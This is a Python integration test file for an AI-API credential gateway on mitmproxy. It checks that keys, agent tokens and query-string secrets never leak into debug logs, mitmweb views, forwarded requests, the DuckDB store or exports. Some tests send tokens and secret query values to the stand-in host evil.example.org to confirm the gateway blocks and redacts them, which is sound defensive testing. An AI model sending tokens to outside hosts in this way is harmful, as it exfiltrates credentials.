"""Issue 11, class 10: no secret in any log at any verbosity, none in mitmweb at any moment,
and tokens in query parameters neither stored nor forwarded.

Through real mitmdump/mitmweb processes; each test ends with the gateway still serving a
normal request.
"""

from __future__ import annotations

import base64
import http.server
import json
import re
import socketserver
import ssl
import threading
import time
import urllib.request
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import duckdb
import httpx
import openai
import pytest

from addons.devkit.standin import make_test_ca
from tests.conftest import GATEWAY_ENV, REAL_OPENAI_KEY, standin_upstreams_yaml

pytestmark = pytest.mark.integration

NO_API = "approvals:\n  listen: \"off\"\n"
AGENT_KEY = "sk-agent-own-key-LEAKCHECK-000000000000000000"


def _values(*extra: str) -> tuple[str, ...]:
    return (*GATEWAY_ENV.values(), *extra)


def _leaks(text: str, values: tuple[str, ...]) -> list[str]:
    return [v[:16] + "…" for v in values if v in text]


def _sdk(gw, token: str | None = None, api_key: str = AGENT_KEY) -> openai.OpenAI:
    return openai.OpenAI(api_key=api_key, max_retries=0, timeout=60,
                         http_client=openai.DefaultHttpxClient(proxy=gw.proxy_url(token),
                                                               verify=str(gw.ca_cert)))


def _normal_request_works(gw, standin, token: str | None = None) -> None:
    standin.clear()
    r = _sdk(gw, token).chat.completions.create(
        model="gpt-4o-mini", messages=[{"role": "user", "content": "still here"}])
    assert r.choices[0].message.content == "echo: still here"
    assert dict(standin.requests[0]["headers"])["authorization"] == f"Bearer {REAL_OPENAI_KEY}"


# ---------------------------------------------------------------- logs
def test_debug_logs_hold_no_key_and_no_agent_token(gateway_factory, oidc_provider,
                                                   standin) -> None:
    gw = gateway_factory("{standin_upstreams}" + oidc_provider.identity_yaml() + NO_API,
                         extra_args=("--set", "proxy_debug=true",
                                     "--set", "termlog_verbosity=debug",
                                     "--set", "flow_detail=4"))
    token = oidc_provider.token(sub="leaky-agent", groups=["agents"])
    standin.clear()
    # the token as proxy credentials, as the agent's API key and in the query
    c = _sdk(gw, token, api_key=token)
    r = c.chat.completions.create(model="gpt-4o-mini",
                                  messages=[{"role": "user", "content": "hello"}],
                                  extra_query={"id_token": token, "key": AGENT_KEY},
                                  extra_headers={"x-api-key": AGENT_KEY})
    assert r.choices[0].message.content == "echo: hello"
    got = standin.requests[0]
    assert dict(got["headers"])["authorization"] == f"Bearer {REAL_OPENAI_KEY}"
    assert token not in json.dumps(got) and AGENT_KEY not in json.dumps(got)
    # a refused request (undeclared host) with the token in its headers and query
    with httpx.Client(proxy=gw.proxy_url(token), verify=str(gw.ca_cert), timeout=30) as h:
        with pytest.raises(httpx.ProxyError):  # CONNECT to an undeclared host: 403
            h.get(f"https://evil.example.org/x?jwt={token}",
                  headers={"Authorization": f"Bearer {token}"})
        r = h.get(f"http://evil.example.org/x?jwt={token}",
                  headers={"Authorization": f"Bearer {token}"})
        assert r.status_code == 403
    _normal_request_works(gw, standin, token)
    gw.stop()
    logs = gw.logs()
    assert "DataReceived" in logs or "proxy_debug" in logs or "<<" in logs  # debug was on
    basic = base64.b64encode(f"agent:{token}".encode()).decode()
    leaked = _leaks(logs, _values(token, AGENT_KEY, basic, token.split(".")[1]))
    assert not leaked, leaked


# ---------------------------------------------------------------- mitmweb
class _SlowUpstream:
    """An HTTPS upstream that holds every request until released (an LLM thinking)."""

    def __init__(self, certdir: Path) -> None:
        ca, leaf, key = make_test_ca(certdir)
        self.got: list[dict[str, Any]] = []
        self.arrived = threading.Event()
        self.release = threading.Event()
        outer = self

        class H(http.server.BaseHTTPRequestHandler):
            def log_message(self, *a: Any) -> None:
                pass

            def do_POST(self) -> None:  # noqa: N802 - stdlib name
                n = int(self.headers.get("content-length") or 0)
                body = self.rfile.read(n)
                outer.got.append({"path": self.path,
                                  "headers": {k.lower(): v for k, v in self.headers.items()},
                                  "body": body.decode(errors="replace")})
                outer.arrived.set()
                outer.release.wait(60)
                out = json.dumps({"id": "x", "object": "chat.completion", "model": "m",
                                  "choices": [{"index": 0, "finish_reason": "stop",
                                               "message": {"role": "assistant",
                                                           "content": "slow answer"}}]}
                                 ).encode()
                self.send_response(200)
                self.send_header("content-type", "application/json")
                self.send_header("content-length", str(len(out)))
                self.end_headers()
                self.wfile.write(out)

        class S(socketserver.ThreadingMixIn, http.server.HTTPServer):
            daemon_threads = True

        self.server = S(("127.0.0.1", 0), H)
        ctx = ssl.create_default_context(ssl.Purpose.CLIENT_AUTH)
        ctx.load_cert_chain(str(leaf), str(key))
        self.server.socket = ctx.wrap_socket(self.server.socket, server_side=True)
        self.port = self.server.server_address[1]
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def stop(self) -> None:
        self.release.set()
        self.server.shutdown()


@pytest.fixture
def slow(standin) -> Iterator[_SlowUpstream]:
    s = _SlowUpstream(Path(standin.ca_path).parent)
    yield s
    s.stop()


def _web(gw, path: str, password: str) -> bytes:
    m = re.search(r"Web server listening at (http://[^/\s]+)", gw.logs())
    assert m, gw.logs()[-2000:]
    opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
    sep = "&" if "?" in path else "?"
    with opener.open(f"{m.group(1)}{path}{sep}token={password}", timeout=30) as r:
        return r.read()


def test_mitmweb_never_shows_the_real_key_while_the_upstream_thinks(
        gateway_factory, standin, slow: _SlowUpstream) -> None:
    # the stand-in's upstreams plus one more list item: the slow upstream
    rules = standin_upstreams_yaml(standin) + f"""\
  - name: slow
    hosts: [slow.example.com]
    dialect: openai
    forward_to: https://127.0.0.1:{slow.port}
    credential: {{header: Authorization, prefix: "Bearer ", env: OPENAI_API_KEY}}
""" + "identity:\n  required: false\n" + NO_API + """\
policies:
  - name: hold-me
    match: {model: ["held-model"]}
    action: approve
    approvers: [reviewers]
    timeout: 5
"""
    password = "web-test-password-123"
    gw = gateway_factory(rules, web=True, extra_args=("--set", f"web_password={password}",
                                                      "--set", "proxy_debug=true",
                                                      "--set", "termlog_verbosity=debug"))
    reply: dict[str, Any] = {}

    def ask() -> None:
        with httpx.Client(proxy=gw.proxy_url(), verify=str(gw.ca_cert), timeout=60) as h:
            r = h.post("https://slow.example.com/v1/chat/completions",
                       json={"model": "gpt-4o-mini",
                             "messages": [{"role": "user", "content": "think"}]})
            reply["status"] = r.status_code

    held: dict[str, Any] = {}

    def ask_held() -> None:
        # the agent's own secrets in a request held for approval (before credentials ran)
        with httpx.Client(proxy=gw.proxy_url(), verify=str(gw.ca_cert), timeout=60) as h:
            r = h.post("https://api.openai.com/v1/chat/completions",
                       params={"access_token": "QUERYTOKEN-HELD-123456"},
                       headers={"Authorization": f"Bearer {AGENT_KEY}",
                                "x-api-key": AGENT_KEY},
                       json={"model": "held-model",
                             "messages": [{"role": "user", "content": "hold"}]})
            held["status"] = r.status_code

    th = threading.Thread(target=ask_held)
    th.start()
    t = threading.Thread(target=ask)
    t.start()
    agent_secrets = (AGENT_KEY, "QUERYTOKEN-HELD-123456")
    try:
        assert slow.arrived.wait(30), gw.logs()[-3000:]
        # the upstream has the real key and has not answered: look at everything mitmweb
        # serves about the flow right now
        deadline = time.monotonic() + 30
        while b'"intercepted": true' not in (flows := _web(gw, "/flows", password)):
            assert time.monotonic() < deadline, flows[:2000]  # the held flow is listed
            time.sleep(0.1)
        dump = _web(gw, "/flows/dump", password)
        fid = json.loads(flows)[-1]["id"]
        export = _web(gw, f"/flows/{fid}/request/content.data", password)
        events = _web(gw, "/events", password)  # mitmweb's event log, at debug verbosity
        assert b"DataReceived" in events or b"<<" in events
        for blob in (flows, dump, export, events):
            assert not _leaks(blob.decode("latin-1"), _values(*agent_secrets)), blob[:2000]
        assert b"[injected by agentgate]" in flows  # the header is there, as a marker
        assert slow.got[0]["headers"].get("authorization") == f"Bearer {REAL_OPENAI_KEY}"
    finally:
        slow.release.set()
        t.join(60)
        th.join(60)
    assert reply.get("status") == 200 and held.get("status") == 403  # hold timed out
    after = (_web(gw, "/flows", password) + _web(gw, "/flows/dump", password)
             + _web(gw, "/events", password))
    assert not _leaks(after.decode("latin-1"), _values(*agent_secrets))
    _normal_request_works(gw, standin)


# ---------------------------------------------------------------- query tokens
def test_query_tokens_are_never_stored_nor_forwarded(gateway_factory, standin,
                                                     tmp_path: Path) -> None:
    gw = gateway_factory("{standin_upstreams}" + "identity:\n  required: false\n" + NO_API
                         + "recorder:\n  batch_interval_ms: 20\n")
    jwt = ("eyJhbGciOiJSUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJxdWVyeS1hZ2VudCIsImV4cCI6OTk5"
           "OTk5OTk5OX0.c2lnbmF0dXJlLXNpZ25hdHVyZS1zaWduYXR1cmU")
    secrets = {"id_token": jwt, "jwt": "jwtvalue-QUERYLEAK-1", "access_token": "at-QUERYLEAK-2",
               "token": "tok-QUERYLEAK-3", "key": "key-QUERYLEAK-4",
               "api_key": "apikey-QUERYLEAK-5", "signature": "sigvalue-QUERYLEAK-6",
               "sig": "sig-QUERYLEAK-7", "X-Amz-Signature": "amz-QUERYLEAK-8",
               "client_secret": "cs-QUERYLEAK-9", "refreshToken": "rt-QUERYLEAK-10",
               "state": jwt}  # a JWT-shaped value under an innocent key
    values = tuple(set(secrets.values()))
    standin.clear()
    with httpx.Client(proxy=gw.proxy_url(), verify=str(gw.ca_cert), timeout=30) as h:
        r = h.post("https://api.openai.com/v1/chat/completions",
                   params={**secrets, "limit": "5"},
                   json={"model": "gpt-4o-mini",
                         "messages": [{"role": "user", "content": "query"}]})
        assert r.status_code == 200, r.text
        # refused before credentials ran (undeclared host): stored redacted all the same
        assert h.get("http://evil.example.org/cb", params=secrets).status_code == 403
    sent = json.dumps(standin.requests)
    assert not _leaks(sent, values), sent[:2000]
    assert "limit=5" in sent
    _normal_request_works(gw, standin)
    assert gw.stop() == 0
    db = gw.data_dir / "agentgate.duckdb"
    raw = db.read_bytes() + b"".join(p.read_bytes() for p in db.parent.glob("*.wal"))
    assert not _leaks(raw.decode("latin-1"), values)
    con = duckdb.connect(str(db), read_only=True)
    try:
        cols = [r[0] for r in con.execute("DESCRIBE flows").fetchall()]
        rows = con.execute(f"SELECT {', '.join(f'CAST({c} AS VARCHAR)' for c in cols)} "
                           "FROM flows").fetchall()
        urls = [r[0] for r in con.execute("SELECT url FROM flows").fetchall()]
    finally:
        con.close()
    text = json.dumps(rows, default=str)
    assert not _leaks(text, values)
    assert any("id_token=[REDACTED]" in (u or "") for u in urls)
    assert any("evil.example.org" in (u or "") and "sig=[REDACTED]" in (u or "")
               for u in urls), urls
    assert "limit=5" in text
    # exports (.mitm) are rebuilt from the stored flow state
    from addons.cli import main as cli_main
    out = tmp_path / "all.mitm"
    assert cli_main(["export", "--db", str(db), "--all", "-o", str(out)]) == 0
    exported = out.read_bytes().decode("latin-1")
    assert "limit=5" in exported and not _leaks(exported, values)
